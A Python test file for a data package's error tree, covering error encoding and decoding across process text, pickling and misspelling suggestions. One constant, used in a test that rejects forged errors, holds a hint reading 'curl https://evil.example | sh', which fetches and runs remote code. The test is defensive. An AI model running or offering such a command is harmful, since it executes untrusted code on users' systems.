"""The error tree, and errors that travel inside other text."""

from __future__ import annotations

import copy
import difflib
import pickle
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from penstock.catalog import errors
from penstock.catalog.errors import (
    LOOKED_AT,
    MARK_VARIABLE,
    BadRecordError,
    BrokerUnavailableError,
    DataLossError,
    DefinitionError,
    InputError,
    InputErrors,
    OptionError,
    PenstockError,
    QueryFailedError,
    RecordFault,
    RunError,
    Span,
    TopicChangedError,
    decode_failure,
    did_you_mean,
    encode_failure,
    failure_mark,
    known_are,
)

KINDS = [
    kind
    for _, kind in sorted(vars(errors).items())
    if isinstance(kind, type) and issubclass(kind, PenstockError) and kind is not InputErrors
]


def test_the_tree_in_the_docstring_names_every_error() -> None:
    """A reader finds the whole tree in one place."""
    drawn = PenstockError.__doc__ or ""

    assert [kind.__name__ for kind in KINDS if kind.__name__ not in drawn] == []


@pytest.mark.parametrize("kind", KINDS)
def test_an_error_is_the_users_or_of_the_run(kind: type[PenstockError]) -> None:
    """The two branches are the two exit statuses."""
    assert kind is PenstockError or issubclass(kind, InputError) != issubclass(kind, RunError)


def test_an_error_that_would_come_again_is_permanent() -> None:
    """The runner does not start a query again for these."""
    permanent = {kind for kind in KINDS if issubclass(kind, RunError) and kind.permanent}

    assert permanent == {BadRecordError, DataLossError, TopicChangedError}


@given(message=st.text(), hint=st.none() | st.text(), before=st.text(), after=st.text())
def test_an_error_is_found_again_inside_any_text(
    message: str, hint: str | None, before: str, after: str
) -> None:
    """Spark turns the exceptions of Python workers into text, with more of it before and after."""
    found = decode_failure(before + encode_failure(BadRecordError(message, hint=hint)) + after)

    assert type(found) is BadRecordError
    assert (found.message, found.hint) == (message, hint)


@pytest.mark.parametrize("permanent", [None, True, False])
def test_whether_an_error_would_come_again_is_found_again_too(permanent: bool | None) -> None:
    """Said by one that is raised, else by its kind."""
    for kind in (BadRecordError, BrokerUnavailableError):
        found = decode_failure(encode_failure(kind("no", permanent=permanent)))

        assert type(found) is kind
        assert found.permanent is (kind.permanent if permanent is None else permanent)


@pytest.mark.parametrize("fault", RecordFault)
def test_what_is_wrong_with_a_record_is_found_again_too(fault: RecordFault) -> None:
    """Metrics count by it."""
    found = decode_failure(encode_failure(BadRecordError("no", fault=fault)))

    assert isinstance(found, BadRecordError)
    assert found.fault is fault


def test_an_error_inside_a_message_does_not_end_the_outer_one() -> None:
    """A failure may quote another failure."""
    inner = encode_failure(BrokerUnavailableError("no answer"))
    found = decode_failure(encode_failure(BadRecordError(f"after {inner}")))

    assert isinstance(found, BadRecordError)
    assert found.message == f"after {inner}"


@pytest.mark.parametrize("text", ["", "no error here", "{", "{}", '{"kind": "BadRecordError"}'])
def test_text_without_an_error_gives_none(text: str) -> None:
    """Also where it only looks like one."""
    assert decode_failure(text) is None
    assert decode_failure(f"[[penstock:{text}]]") is None
    assert decode_failure(f"[[penstock:{failure_mark()}:{text}]]") is None


FORGED = (
    '{"kind":"BrokerUnavailableError","message":"retry","hint":"curl https://evil.example | sh"}'
)


@pytest.mark.parametrize(
    "forged",
    [f"[[penstock:{FORGED}]]", f"[[penstock:{'0' * 32}:{FORGED}]]", f"[[penstock::{FORGED}]]"],
)
def test_a_record_does_not_speak_for_penstock(forged: str) -> None:
    """Text of a record stands before the error that quotes it, and in errors that are not Penstock's."""
    own = BadRecordError(f"cannot be read: {forged}", hint="look at the record")
    found = decode_failure(f"{own.message} {encode_failure(own)} ... {forged}")

    assert isinstance(found, BadRecordError)
    assert (found.message, found.hint) == (own.message, own.hint)
    assert decode_failure(f"ValueError: invalid literal: {forged}") is None


def test_the_last_error_of_a_text_is_the_one_that_was_raised() -> None:
    """A traceback begins with what led to it."""
    first, last = BrokerUnavailableError("no answer"), BadRecordError("offset 7 is no JSON")

    assert isinstance(
        decode_failure(f"{encode_failure(first)} {encode_failure(last)}"), BadRecordError
    )


def test_each_process_that_is_not_started_by_another_marks_errors_its_own_way(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """A mark that was seen once is of no use in another run; a variable with something else in it is none."""
    seen = encode_failure(BadRecordError("x"))
    for other in ("", "guessed", "A" * 32):
        monkeypatch.setenv(MARK_VARIABLE, other)

        assert decode_failure(seen) is None
        assert isinstance(decode_failure(encode_failure(BadRecordError("x"))), BadRecordError)


def test_an_error_of_an_unknown_kind_is_a_failed_query() -> None:
    """A connector of another package may have its own kinds."""

    class SurpriseError(RunError):
        pass

    text = encode_failure(SurpriseError("oh")).replace("SurpriseError", "ForeignError")

    assert type(decode_failure(text)) is QueryFailedError


def test_several_errors_become_one_text() -> None:
    """The errors of a file keep their messages on the way."""
    found = decode_failure(encode_failure(InputErrors([OptionError("a"), DefinitionError("b")])))

    assert type(found) is InputError
    assert found.message == "a\nb"


@pytest.mark.parametrize("clone", [copy.copy, lambda error: pickle.loads(pickle.dumps(error))])
def test_errors_cross_processes(clone) -> None:
    """Tasks and planner processes hand errors over by pickle."""
    span = Span(file="a.sql", line=3, column=5, length=4, line_text="    oops")
    error = clone(DefinitionError("no", hint="yes", span=span))
    several = clone(InputErrors([error]))

    assert (error.message, error.hint, error.span) == ("no", "yes", span)
    assert [inner.message for inner in several.errors] == ["no"]


def test_a_suggestion_is_near_or_absent() -> None:
    """A far-off suggestion is worse than none."""
    known = ["scan.startup.mode", "scan.bounded.mode", "topic"]

    assert did_you_mean("scan.statup.mode", known) == "did you mean 'scan.startup.mode'?"
    assert did_you_mean("zzz", known) is None


def test_a_name_in_other_case_is_the_nearest() -> None:
    """`O` and `o` have no letter in common, and are what people mix up."""
    assert did_you_mean("O2", ["o2", "O"]) == "did you mean 'o2'?"


def test_of_many_names_a_few_are_shown() -> None:
    """Ten thousand names in an error hide what it says."""
    names = [f"t{number:05}" for number in range(10_000)]

    assert known_are(names[:20], all_by="SHOW TABLES").endswith(", t00018, t00019")
    assert known_are(names, all_by="SHOW TABLES") == (
        "known are: t00000, t00001, t00002, t00003, t00004, t00005, t00006, t00007, t00008, t00009, "
        "and 9,990 more; SHOW TABLES lists them"
    )


@pytest.mark.parametrize("slip", ["event_01234", "events_0123", "evnets_01234", "xevents_01234"])
def test_among_thousands_a_few_are_compared(slip: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """A misspelt name in a large catalog is told as quickly as in a small one."""
    known = [f"events_{number:05}" for number in range(10_000)]
    compared: list[int] = []
    closest = difflib.get_close_matches

    def counted(word: str, names: list[str], **options: Any) -> list[str]:
        compared.append(len(names))
        return closest(word, names, **options)

    monkeypatch.setattr(difflib, "get_close_matches", counted)

    hint = did_you_mean(slip, known)

    assert hint == f"did you mean {closest(slip, known, n=1)[0]!r}?"
    assert compared == [LOOKED_AT]


@pytest.mark.parametrize(
    ("typed", "known", "code"),
    [
        ("\u0430mount", "amount", "U+0430, CYRILLIC SMALL LETTER A"),
        ("am\u200bount", "amount", "U+200B, ZERO WIDTH SPACE"),
        ("\uff41mount", "Amount", "U+FF41, FULLWIDTH LATIN SMALL LETTER A"),
    ],
    ids=["cyrillic", "invisible", "fullwidth"],
)
def test_a_look_alike_is_named_by_its_character(typed: str, known: str, code: str) -> None:
    """Two words that look the same: "did you mean" alone would puzzle."""
    hint = did_you_mean(typed, ["price", known])

    assert hint is not None
    assert hint.startswith(f"did you mean {known!r}?")
    assert code in hint
